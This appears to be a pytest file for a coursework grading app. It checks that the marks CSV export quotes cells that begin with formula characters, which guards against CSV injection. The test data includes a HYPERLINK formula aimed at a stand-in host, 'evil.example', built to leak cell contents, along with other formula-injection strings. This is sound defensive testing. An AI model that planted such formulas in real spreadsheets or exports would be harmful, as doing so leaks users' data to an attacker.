"""The marks CSV never carries a formula a spreadsheet would run (CSV injection): text starting
with = + - @ (or a tab or CR) is quoted with a leading ', through the real export route; real
numbers, a negative one included, stay numbers."""

from __future__ import annotations

import csv
import io

from api_kit import grade, notebook, upload
from sqlalchemy import update

from grader.roster.models import Student
from grader.rubrics.loader import load_coursework
from grader.runs.models import GradingRun

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_student_named_like_a_formula_is_exported_as_text(client, people, settings, sessions):
    sub = upload(client, people.headers["student"], notebook()).json()
    run_id = grade(sessions, load_coursework("cwa", settings).rubric, sub["id"])
    with sessions() as session:
        session.execute(
            update(Student).where(Student.external_id == "s1").values(name=HYPERLINK, email="@SUM(1+1)@example.ac.uk")
        )
        session.execute(update(Student).where(Student.external_id == "s3").values(name="-2+3", email="\tx"))
        session.execute(update(Student).where(Student.external_id == "s2").values(name="+44 Bob"))
        session.execute(update(GradingRun).where(GradingRun.id == run_id).values(score=-1.0))  # a penalty won
        session.commit()
    r = client.get("/api/v1/courseworks/cwa/export.csv", headers=people.headers["lecturer"])
    assert r.status_code == 200, r.text
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    assert rows["s1"]["name"] == "'" + HYPERLINK and rows["s1"]["email"] == "'@SUM(1+1)@example.ac.uk"
    assert rows["s3"]["name"] == "'-2+3" and rows["s3"]["email"] == "'\tx"
    assert rows["s2"]["name"] == "'+44 Bob"
    assert rows["s1"]["auto_score"] == "-1"  # a number, not text: it stays summable
    assert float(rows["s1"]["max_score"]) > 0 and rows["s1"]["complete"] in ("yes", "no")
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_cells():
    from grader.marking.csv_cells import cell  # here, so the route test above runs on any version

    assert [cell(v) for v in (None, -1.0, 2.5, -3, True, "=1+1", "+1", "-x", "@a", "\tz", "\rz", "plain", "-1")] == [
        "",
        "-1",
        "2.5",
        "-3",
        "yes",
        "'=1+1",
        "'+1",
        "'-x",
        "'@a",
        "'\tz",
        "'\rz",
        "plain",
        "'-1",
    ]
